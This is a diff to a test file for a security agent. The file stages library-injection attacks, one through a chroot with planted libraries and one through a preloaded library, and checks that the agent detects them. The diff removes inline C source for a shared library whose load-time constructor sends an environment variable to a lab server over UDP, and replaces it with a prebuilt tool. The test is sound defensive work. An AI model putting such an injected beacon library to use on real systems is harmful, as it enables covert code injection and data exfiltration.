@@ -18,6 +18,7 @@ import { ProcessFlag } from "../../src/gen/abi.gen.ts";
 import { CLOCK, readClock } from "../../src/node-agent/ffi/libc.ts";
 import { cgroupRoot } from "../../src/node-agent/kernel/mounts.ts";
 import { openMap } from "../../src/node-agent/kernel/typed-maps.ts";
+import { buildTool } from "../tools/build.ts";
 import { bindMount, makeImage, mountOverlay } from "./harness/images.ts";
 import { Lab } from "./harness/lab.ts";
 import { egress, entry, profile } from "./harness/profiles.ts";
@@ -152,26 +153,8 @@ for (const [family, flags] of [
   });
 }
 
-/** A library that sends the text in the variable TAG as soon as it is loaded. Exit status as that of the client. */
-const LIBRARY = `#include <arpa/inet.h>
-#include <stdlib.h>
-#include <string.h>
-#include <sys/time.h>
-#include <unistd.h>
-__attribute__((constructor)) static void run(void)
-{
-	struct sockaddr_in server = { .sin_family = AF_INET, .sin_port = htons(7000) };
-	struct timeval wait = { .tv_sec = 1 };
-	int s = socket(AF_INET, SOCK_DGRAM, 0);
-	char *tag = getenv("TAG"), byte;
-	inet_pton(AF_INET, "${SERVER}", &server.sin_addr);
-	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof(wait));
-	sendto(s, tag, strlen(tag), 0, (void *)&server, sizeof(server));
-	_exit(recv(s, &byte, 1, 0) == 1 ? 0 : 3);
-}`;
-
 const library = lab.path("library.so");
-execFileSync("gcc", ["-shared", "-fPIC", "-x", "c", "-o", library, "-"], { input: LIBRARY });
+copyFileSync(buildTool("preload"), library);
 
 /** A folder with the linker and the libraries that the program wants, and one that the linker loads before all others. */
 function makeRoot(folder: string, program: string): string {
@@ -188,7 +171,7 @@ function makeRoot(folder: string, program: string): string {
 test("§3 attack: a listed program's own file is executed in another root directory (chroot), and gets the libraries there", async () => {
   const [mark, tag] = [lab.agent.events.mark(), lab.tag()];
   const verbs = `rootexec ${makeRoot(lab.path("evil-root"), python)} ${python}`;
-  const { code, stderr } = await lab.run(shop, stranger, verbs, { environment: { TAG: tag } });
+  const { code, stderr } = await lab.run(shop, stranger, verbs, { environment: { SERVER, TAG: tag } });
   assert.equal(code, 3, stderr);
   await lab.violation({ reason: "BinaryModified", path: python }, mark);
   assert.deepEqual(await lab.servers.received(tag), []);
@@ -240,7 +223,7 @@ test("§3 attack: a listed program is started by somebody who answers its system
   const preload = lab.path("preload");
   writeFileSync(preload, `${library}\n`);
   const { code, stderr } = await lab.run(shop, stranger, `supervise ${preload} ${python}`, {
-    environment: { TAG: tag },
+    environment: { SERVER, TAG: tag },
   });
   assert.equal(code, 3, stderr);
   await lab.violation({ reason: "BinaryModified", path: python }, mark);
@@ -337,7 +320,13 @@ function environmentOf(what: string, tag: string): NodeJS.ProcessEnv {
   const others = what.includes("behind")
     ? Array.from({ length: 600 }, (_, index) => [`OTHER_${index}`, "x".repeat(9)])
     : [];
-  return { PATH: process.env.PATH, TAG: tag, ...Object.fromEntries(others), [attack.variable]: value ?? folder };
+  return {
+    PATH: process.env.PATH,
+    SERVER,
+    TAG: tag,
+    ...Object.fromEntries(others),
+    [attack.variable]: value ?? folder,
+  };
 }
 
 /** A folder of modules of a user's own, from which Python takes one at each start. */
